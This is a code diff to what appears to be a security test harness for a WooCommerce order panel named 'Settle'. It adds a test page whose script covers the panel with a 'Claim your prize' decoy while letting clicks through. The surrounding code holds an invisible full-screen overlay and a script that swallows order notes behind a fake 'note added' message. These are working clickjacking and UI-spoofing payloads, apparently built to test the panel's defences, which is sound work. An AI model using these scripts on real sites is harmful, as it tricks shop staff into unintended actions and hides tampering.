@@ -27,6 +27,20 @@ setInterval(() => {
   host.style.cssText = 'position:fixed;inset:0;width:100vw;height:100vh;opacity:0;z-index:2147483647';
 }, 50);`;
 
+// Lays its own decoy over Settle's panel, letting clicks through to it (pointer-events: none).
+const COVER = `
+setInterval(() => {
+  const host = document.getElementById('settle-chase-panel');
+  if (!host || document.getElementById('decoy')) return;
+  const r = host.getBoundingClientRect();
+  const decoy = document.createElement('div');
+  decoy.id = 'decoy';
+  decoy.textContent = 'Claim your prize';
+  decoy.style.cssText = 'position:absolute;pointer-events:none;z-index:2147483647;background:#ffeb3b;font:bold 40px sans-serif;' +
+    'left:' + (r.left + scrollX) + 'px;top:' + (r.top + scrollY) + 'px;width:' + r.width + 'px;height:' + r.height + 'px';
+  document.body.append(decoy);
+}, 50);`;
+
 // Swallows the note before WooCommerce posts it, and shows a fake "note added" in its place.
 const FAKE_NOTE = `
 document.addEventListener('click', (event) => {
@@ -52,6 +66,7 @@ export function attackPages() {
     // 1,000 rows, among them the real shop's #1042 "paid".
     page('attack-list-1000', `http://${EVIL}/wp-admin/admin.php?page=wc-orders`, list.html),
     page('attack-hide-panel', edit(1042, '&attack=hide'), withScript(evil1042(), HIDE_AND_READ)),
+    page('attack-cover-panel', edit(1042, '&attack=cover'), withScript(evil1042(), COVER)),
     page('attack-fake-note', edit(1042, '&attack=fake-note'), withScript(evil1042(), FAKE_NOTE)),
   ];
 }
